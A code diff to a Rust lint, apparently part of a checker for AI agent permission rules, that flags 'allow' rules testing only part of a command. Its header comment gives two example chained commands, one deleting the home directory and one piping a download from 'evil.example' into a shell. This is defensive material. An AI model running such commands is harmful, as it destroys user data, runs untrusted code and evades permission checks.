@@ -1,5 +1,5 @@
-//! An `allow` whose condition tests a part of a call, and so allows the untested rest: `git status; rm -rf ~` runs
-//! `git status` too, and `touch docs/a; curl evil.example | sh` writes below `docs`.
+//! Finds an `allow` whose condition tests a part of a call, and so allows the untested rest: `git status; rm -rf ~`
+//! also runs `git status`, and `touch docs/a; curl evil.example | sh` also writes below `docs`.
 
 use super::calls::{MissingValueReading, SelectedCall, SelectedCalls};
 use super::{FindingSink, Lint, SourceTexts};
@@ -16,27 +16,31 @@ fn check(written: &SourceTexts<'_>, rule: &Rule, findings: &mut FindingSink) {
         return;
     }
     let calls = SelectedCalls::from_rule(rule);
-    let of_call = |call: &SelectedCall| {
+    let part_of_call = |call: &SelectedCall| {
         let clauses = [(&rule.when, false), (&rule.unless, true)];
-        let clauses: Vec<_> = clauses.into_iter().filter_map(|(clause, not)| Some((clause.as_ref()?, not))).collect();
-        let covers = clauses.iter().any(|(clause, negated)| is_covered(clause, *negated, Some(call)));
-        if covers {
+        let clauses = clauses.into_iter().filter_map(|(clause, negated)| Some((clause.as_ref()?, negated)));
+        let clauses: Vec<(&Condition, bool)> = clauses.collect();
+        // One clause that takes the whole call into account is enough.
+        let is_fully_tested = clauses.iter().any(|(clause, negated)| is_covered(clause, *negated, Some(call)));
+        if is_fully_tested {
             None
         } else {
             clauses.iter().find_map(|(clause, negated)| partial_test(clause, *negated, Some(call)))
         }
     };
-    let of_record = || {
+    let part_for_unknown_tool = || {
         let when = rule.when.as_ref().filter(|when| calls.has_unknown_tool && !is_covered(when, false, None))?;
         partial_test(when, false, None).filter(|part| matches!(part.kind, ConditionExpr::Command(_)))
     };
-    if let Some(part) = calls.known.iter().filter(|call| call.can_run_commands()).find_map(of_call).or_else(of_record) {
+    if let Some(part) =
+        calls.known.iter().filter(|call| call.can_run_commands()).find_map(part_of_call).or_else(part_for_unknown_tool)
+    {
         findings.push(finding(written, part));
     }
 }
 
-/// Whether a condition (or, with `is_negated`, its negation) takes every part of a call into account, or never holds
-/// for the call. Without a call, the tool is not known.
+/// Whether a condition (or, with `is_negated`, its negation) takes every part of a call into account, or is never true
+/// for the call. Without a call, the tool is unknown.
 fn is_covered(condition: &Condition, is_negated: bool, call: Option<&SelectedCall>) -> bool {
     if call.is_some_and(|call| call.evaluate(condition, MissingValueReading::AsHook) == Some(is_negated)) {
         return true;
@@ -112,17 +116,17 @@ fn finding(written: &SourceTexts<'_>, part: &Condition) -> Diagnostic {
     }
 }
 
-/// Returns the file tools that access a file as the verb says, and that run no command.
+/// Returns the tools that access one file in the way of the verb, and run no command.
 fn file_tools(verb: FileVerb) -> Vec<&'static str> {
-    let is_so = |tool: &&crate::schema::ToolSpec| {
+    let is_file_tool = |tool: &&crate::schema::ToolSpec| {
         // Other tools may do more with a call than access one file.
         let [file] = tool.files else { return false };
-        let does = match verb {
+        let has_access = match verb {
             FileVerb::Reads => file.reads && !file.writes,
             FileVerb::Writes => file.writes,
             FileVerb::Deletes | FileVerb::Sends => false,
         };
-        does && tool.example_text == Some("file_path") && tool.command.is_none()
+        has_access && tool.example_text == Some("file_path") && tool.command.is_none()
     };
-    TOOLS.iter().filter(is_so).map(|tool| tool.name).collect()
+    TOOLS.iter().filter(is_file_tool).map(|tool| tool.name).collect()
 }
